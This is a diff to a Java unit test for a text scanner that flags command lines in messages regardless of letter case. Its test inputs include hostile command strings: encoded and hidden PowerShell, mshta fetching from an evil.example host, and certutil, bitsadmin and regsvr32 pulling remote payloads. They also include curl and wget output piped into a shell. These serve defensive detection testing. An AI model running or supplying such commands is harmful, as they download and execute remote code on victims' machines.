@@ -108,6 +108,24 @@ class NameAndTextTest {
     }
 
     @Test
+    void aCommandInAnyCaseIsFoundAndATextNamingNoProgramIsNotScannedForOne() {
+        // each command is looked for only in a text that names its program (lower-cased first, as the patterns fold
+        // ASCII case): capitals and mixed case are still found
+        for (String cmd : new String[] {"POWERSHELL -W HIDDEN -C calc", "PowerShell.exe -EncodedCommand "
+                + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "MSHTA https://evil.example/a.hta", "CertUtil -URLCache -f "
+                + "http://x/a.exe", "BITSADMIN /TRANSFER j http://x/a.exe c:\\a.exe", "RegSvr32 /i:http://x/a.sct "
+                + "scrobj.dll", "RUNDLL32 javascript:alert(1)", "CMD.EXE /C powershell -c x", "CURL -s http://x/i | SH",
+                "WGET -qO- http://x/i | BASH"}) {
+            assertThat(rules(scan(message("run: " + cmd, "")))).as(cmd).contains("command-line");
+        }
+        for (TextInspector.Command c : TextInspector.COMMANDS) {
+            assertThat(c.names()).as(c.what()).isNotEmpty().allMatch(n -> n.equals(n.toLowerCase(java.util.Locale.ROOT)));
+            assertThat(c.mayHold("an invoice, nothing to run")).as(c.what()).isFalse();
+            assertThat(c.mayHold(("run: " + c.names().get(0) + " now").toLowerCase(java.util.Locale.ROOT))).isTrue();
+        }
+    }
+
+    @Test
     void proseAboutToolsIsNotACommandLine() {
         assertThat(scan(message("Our PowerShell training covers certutil basics and how mshta works. "
                 + "Use curl to test the API.", ""))).isEmpty();
